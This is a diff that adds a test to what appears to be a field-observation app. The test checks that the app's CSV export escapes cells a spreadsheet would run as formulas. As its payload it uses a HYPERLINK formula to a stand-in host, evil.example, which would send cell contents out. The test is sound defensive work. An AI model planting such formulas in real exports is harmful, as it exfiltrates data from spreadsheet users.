@@ -90,3 +90,29 @@ def test_the_commands_write_the_same_files(app, group, logged, tmp_path, kind):
     assert result.exit_code == 0, result.output
     assert "2 observations" in result.output
     assert "Ville & Co" in target.read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(
+    client, group, add_observation, start
+):
+    from server.auth.models import Member
+
+    walker = db.session.query(Member).filter_by(group_id=group.id, pseudonym="mouette").one()
+    walker.pseudonym = f"{start}evil"
+    attack = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
+    add_observation(
+        group, -1.5536, 47.2184, operator=attack, note=attack, model=attack,
+        created_by_id=walker.id,
+    )  # fmt: skip
+
+    _, data = download(client, group, "export.csv", private=True)
+
+    header, row = list(csv.reader(io.StringIO(data.decode(), newline="")))
+    cells = dict(zip(header, row, strict=False))
+    attacks = [cell for cell in row if "HYPERLINK" in cell]
+    assert len(attacks) >= 4  # operator, model, note and their OSM tag columns
+    assert not [cell for cell in attacks if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert cells["note"] == "'" + attack
+    assert cells["walker"] == f"'{start}evil"
+    assert cells["lon"] == "-1.5536000"  # numbers stay numbers
